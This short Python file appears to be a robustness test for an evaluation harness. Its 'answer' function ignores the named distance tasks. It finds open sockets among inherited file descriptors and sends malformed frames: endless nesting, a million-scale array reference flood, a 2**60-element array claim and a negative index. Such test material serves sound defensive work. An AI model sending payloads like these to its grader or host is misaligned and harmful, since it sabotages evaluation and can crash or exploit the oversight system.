"""Reply with lists nested without end, a million references to one array, an array of 2**60 numbers.

stock: there is no such socket
"""

# %% answer
import json
import os
import stat
import struct


def heads(name):
    many = '{"tree": {"dict": {"value": {"list": [%s]}}}, "arrays": [["|u1", [1048576]]]}'
    one = '{"tree": {"dict": {"value": {"array": %d}}}, "arrays": [["<f8", [%d]]]}'
    return {
        "l1_distance": ('{"tree": ' + '{"list": [' * 10_000, b""),
        "l2_distance": (many % ", ".join(['{"array": 0}'] * 200_000), bytes(1 << 20)),
        "pairwise_l1": (one % (0, 2**60), bytes(24)),
        "pairwise_l2": (one % (-1, 3), bytes(24)),
    }.get(name, (json.dumps({"tree": {"dict": {"value": {"seed": "9" * 4000}}}, "arrays": []}), b""))


def answer(name, *args):
    head, body = heads(name)
    for number in range(3, 100):
        try:
            if stat.S_ISSOCK(os.fstat(number).st_mode):
                os.write(number, struct.pack("<II", len(head), len(body)) + head.encode() + body)
        except OSError:
            pass
    return 0
